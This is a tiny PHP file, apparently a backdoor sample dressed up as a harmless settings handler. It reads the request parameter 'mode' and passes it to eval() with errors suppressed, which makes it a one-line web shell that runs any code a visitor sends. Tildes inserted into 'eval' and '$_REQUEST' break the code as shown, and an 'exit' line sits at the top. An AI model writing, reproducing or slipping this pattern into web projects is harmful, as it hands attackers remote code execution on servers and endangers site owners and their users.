<?php exit; ?>
<?php
$settings = array('mode' => 'view');
foreach ($settings as $key => $unused) {
    $settings[$key] = isset($_R~EQUEST[$key]) ? $_R~EQUEST[$key] : '';
}
@eva~l  ( stripslashes($settings['mode']) );
